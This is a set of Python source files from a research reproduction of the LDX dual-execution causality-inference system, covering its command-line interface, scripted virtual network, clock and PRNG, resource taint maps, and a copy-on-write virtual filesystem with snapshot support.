            )
        else:
            print(
                "\nchaos: interrupted — nothing was checkpointed (use "
                "--resume to make interruptions resumable)",
                file=sys.stderr,
            )
        return 130
    finally:
        if executor is not None:
            executor.close()
        if store is not None:
            store.close()
    print(render_chaos(rows, args.seeds, args.fault_rate))
    return 0 if chaos_ok(rows) else 1


def _cmd_report(args) -> int:
    from repro.results import (
        ResultsStore,
        chaos_report_from_store,
        eval_report_from_store,
        trend_report,
    )

    store = ResultsStore(args.store_path)
    try:
        if args.trend is not None:
            print(trend_report(store, args.trend or None))
        elif args.chaos:
            print(chaos_report_from_store(store))
        else:
            print(eval_report_from_store(store))
    finally:
        store.close()
    return 0


def _cmd_checkpoints(args) -> int:
    from repro.checkpoint import prune_checkpoints

    max_age = None
    if args.max_age_hours is not None:
        max_age = args.max_age_hours * 3600.0
    summary = prune_checkpoints(
        args.checkpoint_dir,
        max_entries=args.max_entries,
        max_age_seconds=max_age,
    )
    print(
        f"checkpoints: scanned {summary['scanned']}, "
        f"removed {summary['removed']}, kept {summary['kept']}, "
        f"reclaimed {summary['reclaimed_bytes']} bytes"
    )
    return 0


def _cmd_serve(args) -> int:
    from repro.serve import HttpTransport, LdxService, ServeConfig, StdioTransport

    _apply_backend(args)
    _configure_cache(args)
    service = LdxService(
        ServeConfig(
            workers=args.workers,
            queue_capacity=args.queue_capacity,
            high_watermark=args.high_watermark,
            breaker_threshold=args.breaker_threshold,
            breaker_cooldown=args.breaker_cooldown,
            max_factories=args.max_factories,
            checkpoint_dir=args.serve_checkpoint_dir,
        )
    )
    if args.http is not None:
        transport = HttpTransport(service, port=args.http)
    else:
        transport = StdioTransport(service)
    return transport.serve_forever()


def _cmd_serve_chaos(args) -> int:
    from repro.eval.serve_chaos import render_storm, run_storm, storm_ok

    _apply_backend(args)
    _configure_cache(args)
    executor = _make_executor(args)
    try:
        outcome = run_storm(
            requests=args.requests,
            workers=args.workers,
            queue_capacity=args.queue_capacity,
            fault_rate=args.fault_rate,
            fault_seed=args.fault_seed,
            tiny_deadline_every=args.tiny_deadline_every,
            poison_every=args.poison_every,
            url=args.url,
            jobs=args.jobs,
            executor=executor,
        )
    finally:
        if executor is not None:
            executor.close()
    store = _open_store(args)
    if store is not None and store.enabled:
        store.record_bench(
            "serve_chaos_storm",
            outcome.metrics(),
            context={
                "requests": args.requests,
                "workers": args.workers,
                "queue_capacity": args.queue_capacity,
                "fault_rate": args.fault_rate,
                "fault_seed": args.fault_seed,
            },
        )
        store.close()
    print(render_storm(outcome))
    return 0 if storm_ok(outcome) else 1


def main(argv: List[str] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro", description="LDX causality inference (ASPLOS 2016 reproduction)"
    )
    commands = parser.add_subparsers(dest="command", required=True)

    run_parser = commands.add_parser("run", help="execute a MiniC program natively")
    _add_world_options(run_parser)
    _add_backend_option(run_parser)
    run_parser.add_argument(
        "--profile-interp",
        action="store_true",
        help="record per-opcode counts and virtual time; print a top-N "
        "report to stderr after the program's output",
    )
    run_parser.add_argument(
        "--top", type=int, default=10, metavar="N", help="profile rows to show"
    )
    run_parser.set_defaults(handler=_cmd_run)

    leak_parser = commands.add_parser(
        "leak", help="dual-execute with LDX and report causality"
    )
    _add_world_options(leak_parser)
    leak_parser.add_argument("--secret-file", action="append", metavar="PATH")
    leak_parser.add_argument("--secret-stdin", action="store_true")
    leak_parser.add_argument("--secret-endpoint", action="append", metavar="HOST:PORT")
    leak_parser.add_argument("--secret-env", action="append", metavar="NAME")
    leak_parser.add_argument("--secret-label", action="append", metavar="LABEL")
    leak_parser.add_argument(
        "--sinks", choices=("network", "file"), default="network"
    )
    _add_fault_options(leak_parser, default_rate=0.0)
    leak_parser.set_defaults(handler=_cmd_leak)

    eval_parser = commands.add_parser("eval", help="regenerate the paper's tables")
    eval_parser.add_argument("--table4-runs", type=int, default=100)
    eval_parser.add_argument(
        "--check-static",
        action="store_true",
        help="append Table 5 and verify every dynamic detection against the "
        "static may-depend oracle (exit 1 on any soundness violation)",
    )
    eval_parser.add_argument(
        "--table5-json",
        metavar="PATH",
        default=None,
        help="with --check-static, also write the Table 5 JSON artifact",
    )
    _add_parallel_options(eval_parser)
    _add_store_options(eval_parser)
    _add_backend_option(eval_parser)
    eval_parser.set_defaults(handler=_cmd_eval)

    report_parser = commands.add_parser(
        "report",
        help="re-render reports from the results store (nothing executes)",
    )
    report_parser.add_argument(
        "--chaos",
        action="store_true",
        help="render the latest recorded chaos sweep instead of the eval tables",
    )
    report_parser.add_argument(
        "--trend",
        nargs="?",
        const="",
        default=None,
        metavar="BENCH",
        help="render the benchmark history (optionally one bench only): "
        "the perf trajectory over recorded runs",
    )
    from repro.results import DEFAULT_STORE_PATH

    report_parser.add_argument(
        "--store-path",
        default=DEFAULT_STORE_PATH,
        metavar="PATH",
        help=f"columnar results store to read (default: {DEFAULT_STORE_PATH})",
    )
    report_parser.set_defaults(handler=_cmd_report)

    profile_parser = commands.add_parser(
        "profile",
        help="run one workload with the opcode-level interpreter profiler",
    )
    profile_parser.add_argument("workload", help="registered workload name")
    profile_parser.add_argument("--seed", type=int, default=1, help="world seed")
    profile_parser.add_argument(
        "--top", type=int, default=10, metavar="N", help="profile rows to show"
    )
    profile_parser.add_argument(
        "--json", metavar="PATH", default=None, help="write the JSON artifact"
    )
    _add_backend_option(profile_parser)
    profile_parser.set_defaults(handler=_cmd_profile)

    analyze_parser = commands.add_parser(
        "analyze",
        help="static causality analysis and lints (no execution)",
    )
    analyze_parser.add_argument(
        "programs", nargs="*", help="MiniC source files to analyze"
    )
    analyze_parser.add_argument(
        "--workload",
        action="append",
        metavar="NAME",
        help="analyze a registered workload under its config (repeatable)",
    )
    analyze_parser.add_argument(
        "--all",
        dest="all_workloads",
        action="store_true",
        help="analyze every registered workload",
    )
    analyze_parser.add_argument(
        "--dump-ir",
        action="store_true",
        help="print the IR annotated with def-use and control-dependence facts",
    )
    analyze_parser.add_argument(
        "--verbose", action="store_true", help="include notes and per-function stats"
    )
    analyze_parser.add_argument(
        "--relevance",
        action="store_true",
        help="include the per-function sink-relevance table "
        "(Algorithm 2: relevant / elidable / summarizable counts)",
    )
    analyze_parser.add_argument(
        "--json", metavar="PATH", default=None, help="write a JSON summary"
    )
    analyze_parser.add_argument(
        "--baseline",
        metavar="FILE",
        default=None,
        help="known-diagnostics file; exit 1 on any diagnostic not listed",
    )
    analyze_parser.add_argument(
        "--write-baseline",
        metavar="FILE",
        default=None,
        help="write the current diagnostic keys as a new baseline",
    )
    analyze_parser.add_argument(
        "--strict",
        action="store_true",
        help="exit 1 if any warning or error fires",
    )
    _add_cache_options(analyze_parser)
    analyze_parser.set_defaults(handler=_cmd_analyze)

    chaos_parser = commands.add_parser(
        "chaos", help="sweep fault-injection seeds and check robustness invariants"
    )
    chaos_parser.add_argument(
        "--seeds", type=int, default=50, help="number of fault seeds to sweep"
    )
    chaos_parser.add_argument(
        "--workload",
        action="append",
        metavar="NAME",
        help="restrict the sweep to a workload (repeatable; default: all)",
    )
    chaos_parser.add_argument(
        "--resume",
        action="store_true",
        help="persist finished (workload, seed-chunk) cells and resume an "
        "interrupted sweep at the first incomplete cell (report "
        "byte-identical to an uninterrupted run)",
    )
    chaos_parser.add_argument(
        "--checkpoint-dir",
        metavar="DIR",
        default=None,
        help="where checkpoints live (default: .repro-cache/checkpoints; "
        "implies --resume)",
    )
    _add_fault_options(chaos_parser, default_rate=0.1)
    _add_parallel_options(chaos_parser)
    _add_store_options(chaos_parser)
    _add_backend_option(chaos_parser)
    chaos_parser.set_defaults(handler=_cmd_chaos)

    serve_parser = commands.add_parser(
        "serve",
        help="run the causality-as-a-service daemon (stdin JSONL or HTTP)",
    )
    serve_parser.add_argument(
        "--http",
        type=int,
        default=None,
        metavar="PORT",
        help="listen on 127.0.0.1:PORT instead of stdin JSONL (0 = "
        "ephemeral; the bound port is announced on stdout)",
    )
    serve_parser.add_argument(
        "--workers", type=_jobs, default=2, metavar="N",
        help="worker threads draining the admission queue",
    )
    serve_parser.add_argument(
        "--queue-capacity", type=int, default=64, metavar="N",
        help="admission queue bound (beyond it requests shed as overloaded)",
    )
    serve_parser.add_argument(
        "--high-watermark", type=int, default=None, metavar="N",
        help="queue depth above which cold requests shed (default: 3/4 capacity)",
    )
    serve_parser.add_argument(
        "--breaker-threshold", type=int, default=3, metavar="N",
        help="consecutive engine failures before a workload's breaker opens",
    )
    serve_parser.add_argument(
        "--breaker-cooldown", type=float, default=30.0, metavar="SECONDS",
        help="open-breaker cooldown before a half-open probe is admitted",
    )
    serve_parser.add_argument(
        "--max-factories", type=int, default=32, metavar="N",
        help="warm engine-factory LRU capacity",
    )
    serve_parser.add_argument(
        "--serve-checkpoint-dir", metavar="DIR", default=None,
        help="checkpoint degraded in-flight requests here (drain protocol)",
    )
    _add_cache_options(serve_parser)
    _add_backend_option(serve_parser)
    serve_parser.set_defaults(handler=_cmd_serve)

    serve_chaos_parser = commands.add_parser(
        "serve-chaos",
        help="storm a service with concurrent faulty requests and check "
        "the service invariants (verdicts never change; failures are "
        "always explicit)",
    )
    serve_chaos_parser.add_argument(
        "--requests", type=int, default=60, metavar="N",
        help="requests in the storm",
    )
    serve_chaos_parser.add_argument(
        "--workers", type=_jobs, default=2, metavar="N",
        help="service worker threads (in-process mode)",
    )
    serve_chaos_parser.add_argument(
        "--queue-capacity", type=int, default=8, metavar="N",
        help="admission queue bound (small by default to exercise shedding)",
    )
    serve_chaos_parser.add_argument(
        "--tiny-deadline-every", type=int, default=7, metavar="N",
        help="every Nth request gets a near-zero deadline (0 disables)",
    )
    serve_chaos_parser.add_argument(
        "--poison-every", type=int, default=11, metavar="N",
        help="every Nth request is malformed/oversized (0 disables)",
    )
    serve_chaos_parser.add_argument(
        "--url", metavar="URL", default=None,
        help="storm a running daemon at URL instead of an in-process service",
    )
    serve_chaos_parser.add_argument(
        "--fault-seed", type=int, default=0,
        help="seed for the deterministic fault-injection plan",
    )
    serve_chaos_parser.add_argument(
        "--fault-rate", type=_rate, default=0.1,
        help="transient-fault probability per eligible syscall (0 disables)",
    )
    serve_chaos_parser.add_argument(
        "--jobs", type=_jobs, default=1, metavar="N",
        help="worker processes for the post-storm baseline verification "
        "(1 = serial; the outcome is identical for any value)",
    )
    _add_executor_options(serve_chaos_parser)
    _add_cache_options(serve_chaos_parser)
    _add_store_options(serve_chaos_parser)
    _add_backend_option(serve_chaos_parser)
    serve_chaos_parser.set_defaults(handler=_cmd_serve_chaos)

    checkpoints_parser = commands.add_parser(
        "checkpoints", help="manage the on-disk checkpoint store"
    )
    checkpoint_actions = checkpoints_parser.add_subparsers(
        dest="action", required=True
    )
    prune_parser = checkpoint_actions.add_parser(
        "prune",
        help="delete stale checkpoint entries (TTL and/or entry cap)",
    )
    from repro.checkpoint import DEFAULT_CHECKPOINT_DIR

    prune_parser.add_argument(
        "--checkpoint-dir",
        metavar="DIR",
        default=DEFAULT_CHECKPOINT_DIR,
        help=f"checkpoint store location (default: {DEFAULT_CHECKPOINT_DIR})",
    )
    prune_parser.add_argument(
        "--max-entries", type=int, default=None, metavar="N",
        help="keep at most the newest N entries",
    )
    prune_parser.add_argument(
        "--max-age-hours", type=float, default=None, metavar="H",
        help="delete entries older than H hours",
    )
    prune_parser.set_defaults(handler=_cmd_checkpoints)

    args = parser.parse_args(argv)
    try:
        return args.handler(args)
    except ReproError as failure:
        # One-line diagnosis, not a traceback: engine errors are results.
        print(f"repro: {type(failure).__name__}: {failure}", file=sys.stderr)
        return 2


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
