"""Scripted virtual network.

Workloads attach *endpoint scripts* to ``host:port`` addresses.  An
endpoint is a deterministic request/response function: every ``send``
appends to the connection's request buffer, every ``recv`` pulls from
the response stream the script produced for the requests so far.
Determinism makes master/slave independent (decoupled) execution
reproducible, while the LDX engine still treats ``recv`` outcomes as
nondeterministic inputs to be shared when aligned — the network models
the *external world*, whose event order the paper's syscall-outcome
sharing exists to tame.

Scripts may be **stateful** (a closure counting requests, say).  Such
scripts must be registered through :meth:`Network.register_factory` so
every connection — and every clone of a connection — gets a private
instance: a shared closure would let slave sends advance the state the
master's later responses depend on, making slave effects externally
visible and breaking the paper's Section 7 isolation invariant.
Cloning a connection re-binds a fresh instance and replays ``sent``
through it to rebuild the state; the already-produced response stream
is carried over verbatim so replay can never rewrite history.
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional

# An endpoint script maps one complete request string to a response string.
EndpointScript = Callable[[str], str]

# A factory produces one private script instance per connection.
ScriptFactory = Callable[[], EndpointScript]


class Connection:
    """One live connection: outgoing buffer + scripted incoming stream."""

    def __init__(
        self,
        address: str,
        script: Optional[EndpointScript],
        factory: Optional[ScriptFactory] = None,
    ) -> None:
        self.address = address
        self._script = script
        self._factory = factory
        self.sent: List[str] = []
        self._incoming = ""
        self._consumed = 0
        self.closed = False

    def send(self, data: str) -> Optional[int]:
        """Record outgoing data; feed the script to produce responses.

        None on a closed connection — the kernel maps it to the EBADF
        error path (a real send after close fails, it must not silently
        keep mutating endpoint state).
        """
        if self.closed:
            return None
        self.sent.append(data)
        if self._script is not None:
            self._incoming += self._script(data)
        return len(data)

    def recv(self, count: int) -> Optional[str]:
        """Pull up to *count* chars from the scripted response stream.

        None on a closed connection (distinct from ``""``, which means
        open-but-drained).
        """
        if self.closed:
            return None
        available = self._incoming[self._consumed : self._consumed + count]
        self._consumed += len(available)
        return available

    def clone(self) -> "Connection":
        """Private copy with its own script state.

        A factory-backed script gets a fresh instance with ``sent``
        replayed through it (replay responses are discarded — the
        stream the original already produced is authoritative), so
        neither side's future sends can steer the other's responses.
        Plain scripts are assumed stateless and shared as-is.
        """
        if self._factory is not None:
            script = self._factory()
            for request in self.sent:
                script(request)
        else:
            script = self._script
        copy = Connection(self.address, script, self._factory)
        copy.sent = list(self.sent)
        copy._incoming = self._incoming
        copy._consumed = self._consumed
        copy.closed = self.closed
        return copy

    def cursors(self) -> dict:
        """Serializable position state for :meth:`World.snapshot`.

        The script itself is a closure and cannot be pickled; restore
        rebuilds it from the workload registry and replays ``sent``,
        then overwrites these cursors so the stream position — not the
        replay — is authoritative.
        """
        return {
            "address": self.address,
            "sent": list(self.sent),
            "incoming": self._incoming,
            "consumed": self._consumed,
            "closed": self.closed,
        }

    def restore_cursors(self, cursors: dict) -> None:
        self.sent = list(cursors["sent"])
        self._incoming = cursors["incoming"]
        self._consumed = cursors["consumed"]
        self.closed = cursors["closed"]


class Network:
    """Address book of endpoint scripts plus live connections."""

    def __init__(self) -> None:
        self._scripts: Dict[str, EndpointScript] = {}
        self._factories: Dict[str, ScriptFactory] = {}
        self.connections: List[Connection] = []

    def register(self, host: str, port: int, script: EndpointScript) -> None:
        """Attach a **stateless** script to an address.

        The same callable serves every connection and survives clones
        unchanged; a script that closes over mutable state must use
        :meth:`register_factory` instead.
        """
        self._scripts[f"{host}:{port}"] = script
        self._factories.pop(f"{host}:{port}", None)

    def register_factory(
        self, host: str, port: int, factory: ScriptFactory
    ) -> None:
        """Attach a **stateful** endpoint: *factory* builds one private
        script instance per connection (and per clone, via replay)."""
        self._factories[f"{host}:{port}"] = factory
        self._scripts.pop(f"{host}:{port}", None)

    def connect(self, host: str, port: int) -> Optional[Connection]:
        """Open a connection; None when nothing listens at the address."""
        address = f"{host}:{port}"
        factory = self._factories.get(address)
        if factory is not None:
            connection = Connection(address, factory(), factory)
        else:
            script = self._scripts.get(address)
            if script is None:
                return None
            connection = Connection(address, script)
        self.connections.append(connection)
        return connection

    def clone(self) -> "Network":
        copy = Network()
        copy._scripts = dict(self._scripts)
        copy._factories = dict(self._factories)
        copy.connections = [c.clone() for c in self.connections]
        return copy

    def snapshot(self) -> List[dict]:
        """Per-connection cursor state for :meth:`World.snapshot`."""
        return [c.cursors() for c in self.connections]

    def restore(self, cursors: List[dict]) -> None:
        """Rebuild connections from snapshot cursors.

        Scripts come from this network's registry (the snapshot cannot
        carry closures): each connection is re-opened at its recorded
        address, ``sent`` is replayed to rebuild stateful-script state,
        then the cursors overwrite the replayed stream positions.
        """
        self.connections = []
        for cur in cursors:
            host, _, port = cur["address"].rpartition(":")
            connection = self.connect(host, int(port))
            if connection is None:
                # Address no longer registered: carry a scriptless
                # connection so fds and buffered data still line up.
                connection = Connection(cur["address"], None)
                self.connections.append(connection)
            elif connection._script is not None:
                for request in cur["sent"]:
                    connection._script(request)
            connection.restore_cursors(cur)
