"""Scripted virtual network.

Workloads attach *endpoint scripts* to ``host:port`` addresses.  An
endpoint is a deterministic request/response function: every ``send``
appends to the connection's request buffer, every ``recv`` pulls from
the response stream the script produced for the requests so far.
Determinism makes master/slave independent (decoupled) execution
reproducible, while the LDX engine still treats ``recv`` outcomes as
nondeterministic inputs to be shared when aligned — the network models
the *external world*, whose event order the paper's syscall-outcome
sharing exists to tame.
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional

# An endpoint script maps one complete request string to a response string.
EndpointScript = Callable[[str], str]


class Connection:
    """One live connection: outgoing buffer + scripted incoming stream."""

    def __init__(self, address: str, script: Optional[EndpointScript]) -> None:
        self.address = address
        self._script = script
        self.sent: List[str] = []
        self._incoming = ""
        self._consumed = 0
        self.closed = False

    def send(self, data: str) -> int:
        """Record outgoing data; feed the script to produce responses."""
        self.sent.append(data)
        if self._script is not None:
            self._incoming += self._script(data)
        return len(data)

    def recv(self, count: int) -> str:
        """Pull up to *count* chars from the scripted response stream."""
        available = self._incoming[self._consumed : self._consumed + count]
        self._consumed += len(available)
        return available

    def clone(self) -> "Connection":
        copy = Connection(self.address, self._script)
        copy.sent = list(self.sent)
        copy._incoming = self._incoming
        copy._consumed = self._consumed
        copy.closed = self.closed
        return copy


class Network:
    """Address book of endpoint scripts plus live connections."""

    def __init__(self) -> None:
        self._scripts: Dict[str, EndpointScript] = {}
        self.connections: List[Connection] = []

    def register(self, host: str, port: int, script: EndpointScript) -> None:
        self._scripts[f"{host}:{port}"] = script

    def connect(self, host: str, port: int) -> Optional[Connection]:
        """Open a connection; None when nothing listens at the address."""
        address = f"{host}:{port}"
        script = self._scripts.get(address)
        if script is None:
            return None
        connection = Connection(address, script)
        self.connections.append(connection)
        return connection

    def clone(self) -> "Network":
        copy = Network()
        copy._scripts = dict(self._scripts)
        copy.connections = [c.clone() for c in self.connections]
        return copy
