"""Virtual wall clock and deterministic PRNG.

``time()`` and ``rand()`` are the canonical nondeterministic syscalls
(the paper's ``rdtsc`` analogue): their outcomes differ between two
otherwise identical runs, so LDX shares them from master to slave.  The
virtual versions are deterministic *given a seed*, which lets tests
inject controlled nondeterminism (different seeds = different runs).
"""

from __future__ import annotations


class VirtualClock:
    """Monotonic clock; every read advances it (like reading rdtsc)."""

    def __init__(self, start: int = 1_000_000, step: int = 7) -> None:
        self._now = start
        self._step = step

    def read(self) -> int:
        self._now += self._step
        return self._now

    def advance(self, amount: int) -> None:
        self._now += max(0, amount)

    def peek(self) -> int:
        return self._now

    def clone(self) -> "VirtualClock":
        copy = VirtualClock(self._now, self._step)
        return copy

    def state(self) -> dict:
        """Serializable state for :meth:`World.snapshot`."""
        return {"now": self._now, "step": self._step}

    @classmethod
    def from_state(cls, state: dict) -> "VirtualClock":
        return cls(state["now"], state["step"])


class DeterministicRng:
    """A small LCG — reproducible randomness for rand() and schedulers."""

    MODULUS = 2**31 - 1
    MULTIPLIER = 48271

    def __init__(self, seed: int = 1) -> None:
        self._state = (seed % self.MODULUS) or 1

    def next_int(self, bound: int = 2**30) -> int:
        """Next value in [0, bound).

        The LCG state lives in [1, MODULUS), so a *bound* above the
        modulus is unsatisfiable — values in [MODULUS, bound) would
        never be drawn, silently narrowing the range.  Reject it
        instead of returning biased values.
        """
        if bound > self.MODULUS:
            raise ValueError(
                f"bound {bound} exceeds the LCG modulus {self.MODULUS}; "
                "values at or above the modulus are unreachable"
            )
        self._state = (self._state * self.MULTIPLIER) % self.MODULUS
        return self._state % max(1, bound)

    def clone(self) -> "DeterministicRng":
        copy = DeterministicRng(1)
        copy._state = self._state
        return copy

    def state(self) -> dict:
        """Serializable state for :meth:`World.snapshot`."""
        return {"state": self._state}

    @classmethod
    def from_state(cls, state: dict) -> "DeterministicRng":
        rng = cls(1)
        rng._state = state["state"]
        return rng
