"""Virtual OS: filesystem, network, clock/PRNG, kernel and resources."""

from repro.vos.clock import DeterministicRng, VirtualClock
from repro.vos.faults import Fault, FaultConfig, FaultPlan
from repro.vos.filesystem import VirtualFile, VirtualFS
from repro.vos.kernel import Kernel, ProgramExit
from repro.vos.network import Connection, Network
from repro.vos.resources import LockTaintMap, ResourceTaintMap
from repro.vos.world import World

__all__ = [
    "DeterministicRng",
    "VirtualClock",
    "Fault",
    "FaultConfig",
    "FaultPlan",
    "VirtualFile",
    "VirtualFS",
    "Kernel",
    "ProgramExit",
    "Connection",
    "Network",
    "LockTaintMap",
    "ResourceTaintMap",
    "World",
]
