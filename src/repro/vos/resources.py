"""Resource taint metadata (paper Section 7).

When a syscall misaligns between master and slave, the resource it
touches is tainted.  From then on, syscalls on that resource cannot be
coupled: the slave must execute them against its own (cloned) state
rather than reuse master outcomes.  One taint map is shared by a
master/slave pair.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set


class ResourceTaintMap:
    """Shared taint state for one dual-execution pair."""

    def __init__(self) -> None:
        self._tainted: Set[str] = set()
        self.taint_events: List[str] = []

    def taint(self, resource: Optional[str], reason: str = "") -> None:
        """Mark *resource* tainted (no-op for None)."""
        if resource is None or resource in self._tainted:
            return
        self._tainted.add(resource)
        self.taint_events.append(f"{resource}: {reason}" if reason else resource)

    def is_tainted(self, resource: Optional[str]) -> bool:
        if resource is None:
            return False
        if resource in self._tainted:
            return True
        # Directory taint covers entries beneath it (the paper's
        # "create a clone of the parent directory" behaviour).
        if resource.startswith("file:"):
            path = resource[len("file:") :]
            while "/" in path.strip("/"):
                path = path.rsplit("/", 1)[0]
                if not path:
                    break
                if f"file:{path}" in self._tainted:
                    return True
        return False

    @property
    def tainted_resources(self) -> Set[str]:
        return set(self._tainted)

    def __len__(self) -> int:
        return len(self._tainted)


class LockTaintMap:
    """Locks that saw divergent acquisition patterns (Section 7).

    Tainted locks stop sharing synchronization outcomes, so the two
    executions schedule them independently.
    """

    def __init__(self) -> None:
        self._tainted: Set[int] = set()

    def taint(self, mutex_id: int) -> None:
        self._tainted.add(mutex_id)

    def is_tainted(self, mutex_id: int) -> bool:
        return mutex_id in self._tainted

    def __len__(self) -> int:
        return len(self._tainted)
