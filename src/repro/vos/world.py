"""The *world* — everything outside the program.

A :class:`World` bundles the virtual filesystem, the scripted network,
environment variables, stdin content and the nondeterminism sources
(clock, PRNG, pid).  Workloads build a world; an execution's kernel
owns a live world instance.  Worlds clone deeply, which is how the
slave execution gets a side-effect-free private environment (the
paper's slave never performs externally visible outputs; here its
outputs land in a private clone).
"""

from __future__ import annotations

from typing import Dict

from repro.vos.clock import DeterministicRng, VirtualClock
from repro.vos.filesystem import VirtualFS
from repro.vos.network import Network


class World:
    """A complete, cloneable program environment."""

    def __init__(self, seed: int = 1) -> None:
        self.seed = seed
        self.fs = VirtualFS()
        self.network = Network()
        self.env: Dict[str, str] = {}
        self.stdin = ""
        # Values served by the explicit `source_read(label)` annotation.
        self.sources: Dict[str, object] = {}
        self.clock = VirtualClock(start=1_000_000 + seed * 13)
        self.rng = DeterministicRng(seed)
        self.pid = 4000 + (seed % 100)
        # Heap base differs per world instance — the paper's observation
        # that heap addresses are nondeterministic across executions.
        self.heap_base = 0x10000 + (seed % 7) * 0x1000

    def clone(self, new_seed: int = None) -> "World":
        """Deep copy.  With *new_seed* the nondeterminism sources are
        re-seeded (used to model run-to-run nondeterminism); without it
        the clone continues the same deterministic streams."""
        copy = World(self.seed if new_seed is None else new_seed)
        copy.fs = self.fs.clone()
        copy.network = self.network.clone()
        copy.env = dict(self.env)
        copy.stdin = self.stdin
        copy.sources = dict(self.sources)
        if new_seed is None:
            copy.clock = self.clock.clone()
            copy.rng = self.rng.clone()
            copy.pid = self.pid
            copy.heap_base = self.heap_base
        return copy
