"""The *world* — everything outside the program.

A :class:`World` bundles the virtual filesystem, the scripted network,
environment variables, stdin content and the nondeterminism sources
(clock, PRNG, pid).  Workloads build a world; an execution's kernel
owns a live world instance.  Worlds clone isolated copies — the FS via
copy-on-write overlays, the network via per-connection script
instances — which is how the slave execution gets a side-effect-free
private environment (the paper's slave never performs externally
visible outputs; here its outputs land in a private clone).
:meth:`World.snapshot`/:meth:`World.restore` serialize the overlay
delta plus clock/RNG/network cursors so a dual can checkpoint and
resume.
"""

from __future__ import annotations

import copy as copy_module
from typing import Dict

from repro.vos.clock import DeterministicRng, VirtualClock
from repro.vos.filesystem import VirtualFS
from repro.vos.network import Network

# Bump when the snapshot dict layout changes; restore refuses other
# versions instead of misreading them.
SNAPSHOT_VERSION = 1


class World:
    """A complete, cloneable program environment."""

    def __init__(self, seed: int = 1) -> None:
        self.seed = seed
        self.fs = VirtualFS()
        self.network = Network()
        self.env: Dict[str, str] = {}
        self.stdin = ""
        # Values served by the explicit `source_read(label)` annotation.
        self.sources: Dict[str, object] = {}
        self.clock = VirtualClock(start=1_000_000 + seed * 13)
        self.rng = DeterministicRng(seed)
        self.pid = 4000 + (seed % 100)
        # Heap base differs per world instance — the paper's observation
        # that heap addresses are nondeterministic across executions.
        self.heap_base = 0x10000 + (seed % 7) * 0x1000

    def clone(self, new_seed: int = None) -> "World":
        """Deep copy.  With *new_seed* the nondeterminism sources are
        re-seeded (used to model run-to-run nondeterminism); without it
        the clone continues the same deterministic streams."""
        copy = World(self.seed if new_seed is None else new_seed)
        copy.fs = self.fs.clone()
        copy.network = self.network.clone()
        copy.env = dict(self.env)
        copy.stdin = self.stdin
        # Deep copy: a mutable source value (list/dict served by
        # source_read) aliased between master and slave would let slave
        # mutations leak into master reads.
        copy.sources = copy_module.deepcopy(self.sources)
        if new_seed is None:
            copy.clock = self.clock.clone()
            copy.rng = self.rng.clone()
            copy.pid = self.pid
            copy.heap_base = self.heap_base
        return copy

    # -- checkpointing ---------------------------------------------------------

    def snapshot(self) -> Dict[str, object]:
        """Serializable (picklable) state of this world.

        Captures the FS overlay delta, network cursors, clock/RNG
        state, env/stdin/sources and identity fields.  Endpoint-script
        closures are *not* captured — :meth:`restore` rebuilds them
        from a freshly built workload world, which is why restore takes
        a base world rather than resurrecting one from nothing.
        """
        return {
            "version": SNAPSHOT_VERSION,
            "seed": self.seed,
            "fs_delta": self.fs.delta(),
            "network": self.network.snapshot(),
            "env": dict(self.env),
            "stdin": self.stdin,
            "sources": copy_module.deepcopy(self.sources),
            "clock": self.clock.state(),
            "rng": self.rng.state(),
            "pid": self.pid,
            "heap_base": self.heap_base,
        }

    def restore(self, snapshot: Dict[str, object]) -> "World":
        """Apply *snapshot* onto this world, in place; returns self.

        ``self`` must be a freshly built world from the same workload
        definition (same registered endpoints and initial FS): the FS
        delta is replayed over the pristine tree and network scripts
        are re-instantiated from this world's registry.
        """
        version = snapshot.get("version")
        if version != SNAPSHOT_VERSION:
            raise ValueError(
                f"snapshot version {version!r} != {SNAPSHOT_VERSION}"
            )
        self.seed = snapshot["seed"]
        self.fs.apply_delta(snapshot["fs_delta"])
        self.network.restore(snapshot["network"])
        self.env = dict(snapshot["env"])
        self.stdin = snapshot["stdin"]
        self.sources = copy_module.deepcopy(snapshot["sources"])
        self.clock = VirtualClock.from_state(snapshot["clock"])
        self.rng = DeterministicRng.from_state(snapshot["rng"])
        self.pid = snapshot["pid"]
        self.heap_base = snapshot["heap_base"]
        return self
