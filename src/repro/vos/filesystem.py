"""In-memory virtual filesystem with copy-on-write overlays.

Files hold string content (MiniC strings play the role of byte
buffers).  Directories are implicit via path prefixes but tracked
explicitly so ``mkdir``/``listdir`` behave like a real FS.

The tree is stored as a chain of **overlay layers**: a mutable top
delta (files/dirs created here plus tombstones for deletions) over a
chain of frozen parent layers.  :meth:`VirtualFS.clone` freezes the
current delta and hands both sides fresh empty deltas over the shared
base — O(1) instead of O(tree), the mechanism behind the paper's
copy-on-divergence resource handling (Section 7, "Light-weight
Resource Tainting").  :meth:`file` copies a base file up into the
delta before returning it, so in-place content mutation can never
reach a sibling execution; read-only callers use :meth:`read_file`,
which keeps the delta a record of *writes*.

The delta is also the checkpoint unit: :meth:`delta` serializes
everything above the pristine base layer and :meth:`apply_delta`
replays it onto a freshly built tree (see ``World.snapshot``).

Aliasing contract: a :class:`VirtualFile` handle obtained *before* a
clone must be re-looked-up afterwards (the kernel resolves its path on
every syscall, so this holds throughout the engine).
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set, Tuple


# Normalization is pure and the kernel re-resolves paths on every
# syscall, so workloads hammer the same few strings; the memo is
# bounded to stay harmless under adversarial path churn.
_NORMALIZE_MEMO: Dict[str, str] = {}
_NORMALIZE_MEMO_LIMIT = 4096


def _normalize(path: str) -> str:
    """Normalize a path: collapse slashes, resolve ``.``/``..`` segments
    (clamping ``..`` at the root), ensure a leading slash.

    Resolving dot-segments here is load-bearing: ``/a/../b`` and ``/b``
    must be the *same* file, or aliased writes escape both
    copy-on-divergence cloning and master/slave FS diffing.
    """
    cached = _NORMALIZE_MEMO.get(path)
    if cached is not None:
        return cached
    parts: List[str] = []
    for part in path.split("/"):
        if not part or part == ".":
            continue
        if part == "..":
            if parts:
                parts.pop()
            continue  # ".." at the root stays at the root
        parts.append(part)
    result = "/" + "/".join(parts)
    if len(_NORMALIZE_MEMO) < _NORMALIZE_MEMO_LIMIT:
        _NORMALIZE_MEMO[path] = result
    return result


def parent_dir(path: str) -> str:
    """Parent directory of a normalized path ('/' for top-level)."""
    path = _normalize(path)
    if path == "/":
        return "/"
